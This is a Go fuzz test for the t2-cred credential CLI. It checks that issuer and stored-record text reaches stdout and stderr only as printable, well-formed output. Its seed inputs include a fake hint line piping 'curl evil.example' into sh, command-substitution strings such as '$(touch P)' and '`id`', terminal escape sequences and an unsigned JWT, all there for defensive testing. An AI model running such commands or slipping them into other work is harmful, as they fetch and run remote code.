package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/terradue/t2-cred/helper/oidc/oidctest"
	"github.com/terradue/t2-cred/store"
)

// FuzzOutput fuzzes all of standard output and standard error: what an issuer, a record
// and the command line say is put into the commands that show it. All is printable, JSON
// is JSON, and a failure leaves standard output empty but for reports.
func FuzzOutput(f *testing.F) {
	for _, seed := range [][2]string{
		{"alice", "Session not active"}, {"\x1b[31mred\x1b]0;title\a", "\u009b2J\u202e"}, {"a\nhint: curl evil.example | sh", "t2-cred: all is well\r\n"},
		{"\xff\xfe", "\u2028\u2029\u200b"}, {strings.Repeat("long ", 200), `"}{\`}, {"$(touch P)", "`id`'\""}, {"eyJhbGciOiJub25lIn0.e30.x", "\x00"},
	} {
		f.Add(seed[0], seed[1])
	}
	h := newHome(f)
	if code := h.run("exchange", "--token-file", h.userToken("alice")); code != exitOK {
		f.Fatal(h.stderr.String())
	}
	a := &app{Env: Env{Getenv: func(name string) string { return h.env[name] }, Now: time.Now, Stderr: &h.stderr}}
	a.flags.store = "file"
	_, s, err := a.openConfig()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, name, words string) {
		if strings.Contains(name, "\x00") {
			name = strings.ReplaceAll(name, "\x00", "\x01") // no argument has one
		}
		key := store.Key{Profile: "gep", Account: "default"}
		set := func(revoked string) {
			t.Helper()
			_, err := s.Update(t.Context(), key, func(r store.Record) (store.Record, error) {
				r.Username, r.Scopes, r.RevokedBy = name, []string{words}, revoked
				if r.RevokedAt = (time.Time{}); revoked != "" {
					r.RevokedAt = time.Now()
				}
				return r, nil
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		set("")
		for _, args := range [][]string{
			{"list"}, {"status", "--json"}, {name}, {"get", "--account", name}, {"get", "--profile", name, "--json"}, {"get", "--" + name},
			{"get", "--config", "/nowhere/" + name}, {"setup", name}, {"exchange", "--token-file", "/nowhere/" + name}, {"keepalive", "--older-than", name},
		} {
			wantSeemly(t, h, args)
		}
		remove := h.issuer.Inject(oidctest.Refuse(400, "invalid_grant", words).On(oidctest.Token))
		wantSeemly(t, h, []string{"get", "--fresh"})
		remove()
		remove = h.issuer.Inject(oidctest.Refuse(403, name, words).On(oidctest.Token))
		wantSeemly(t, h, []string{"get", "--fresh", "--json"})
		remove()
		set(words)
		for _, args := range [][]string{{"status"}, {"get"}, {"list", "--json"}} {
			wantSeemly(t, h, args)
		}
	})
}

// wantSeemly runs a command and looks at all that it wrote.
func wantSeemly(t *testing.T, h *home, args []string) {
	t.Helper()
	var out, said bytes.Buffer
	code := Main(t.Context(), Env{
		Args: args, Stdin: strings.NewReader(""), Stdout: &out, Stderr: &said, Getenv: func(name string) string { return h.env[name] }, Now: time.Now,
	})
	isReport := args[0] == "keepalive" || args[0] == "list" || args[0] == "doctor"
	switch story := fmt.Sprintf("%q: exit %d\n%q\n%q", args, code, out.String(), said.String()); {
	case !onlyPrintable(out.String()) || !onlyPrintable(said.String()):
		t.Errorf("not printable: %s", story)
	case code == exitUnexpected:
		t.Errorf("unexpected: %s", story)
	case code != exitOK && out.Len() > 0 && !isReport:
		t.Errorf("it failed and printed: %s", story)
	case code != exitOK && args[len(args)-1] == "--json":
		var failure struct {
			Error struct {
				Exit    int
				Message string
			}
		}
		line := bytes.TrimSuffix(said.Bytes(), []byte("\n"))
		if at := bytes.LastIndexByte(line, '\n'); at >= 0 {
			line = line[at+1:]
		}
		if err := json.Unmarshal(line, &failure); err != nil || failure.Error.Exit != code {
			t.Errorf("no JSON of the failure: %v: %s", err, story)
		}
	case code == exitOK && args[len(args)-1] == "--json" && !json.Valid(out.Bytes()):
		t.Errorf("no JSON: %s", story)
	case code != exitOK:
		if err := wantLines(said.String()); err != nil {
			t.Errorf("%v: %s", err, story)
		}
	}
}

// wantLines wants one line of what failed, and at most one of what to do, at the end.
func wantLines(said string) error {
	lines := strings.Split(strings.TrimSuffix(said, "\n"), "\n")
	last := len(lines) - 1
	if last > 0 && strings.HasPrefix(lines[last], "hint: ") {
		last--
	}
	for n, line := range lines {
		if strings.HasPrefix(line, "t2-cred: ") != (n == last) && !strings.HasPrefix(line, "t2-cred: warning: ") {
			return errors.New("not one line of what failed at the end")
		}
	}
	return nil
}
